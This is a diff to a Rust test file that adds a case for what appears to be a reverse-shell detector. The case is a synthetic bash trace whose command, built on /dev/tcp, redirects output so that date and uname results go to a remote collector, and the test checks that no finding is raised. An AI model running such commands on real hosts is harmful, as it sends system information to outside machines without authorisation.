@@ -695,3 +695,39 @@ fn a_server_running_sh_c_on_pipes_is_not_a_relay() {
     let r = run(ev);
     assert!(r.findings.is_empty(), "{:?}", r.categories());
 }
+
+/// `bash -c 'exec 3<>/dev/tcp/H/P; exec 1>&3; date; uname -a'`: a script that sends its output
+/// to a collector. The peer cannot send it anything to run: no stdin, no finding.
+#[test]
+fn a_shell_whose_stdout_only_is_the_socket_is_not_bound() {
+    let mut ev = web_server();
+    let out = tcp(4545, "10.0.0.5:53000", "10.0.0.8:5000");
+    ev.push(
+        in_c(
+            ExecBuilder::new(2, 101, 100, "/bin/bash")
+                .args(&[
+                    "bash",
+                    "-c",
+                    "exec 3<>/dev/tcp/10.0.0.8/5000; exec 1>&3; date; uname -a",
+                ])
+                .stdio(0, fd(FdKind::Char, 5)),
+        )
+        .event(),
+    );
+    ev.push(connect(3, 101, 4545, "10.0.0.5:53000", "10.0.0.8:5000"));
+    ev.push(dup(4, 101, 1, out.clone()));
+    for (i, cmd) in ["/usr/bin/date", "/usr/bin/uname"].iter().enumerate() {
+        let pid = 102 + i as u32;
+        ev.push(fork(5 + i as u64, pid, 101));
+        ev.push(
+            in_c(
+                ExecBuilder::new(6 + i as u64, pid, 101, cmd)
+                    .stdio(0, fd(FdKind::Char, 5))
+                    .stdio(1, out.clone()),
+            )
+            .event(),
+        );
+    }
+    let r = run(ev);
+    assert!(r.findings.is_empty(), "{:?}", r.categories());
+}
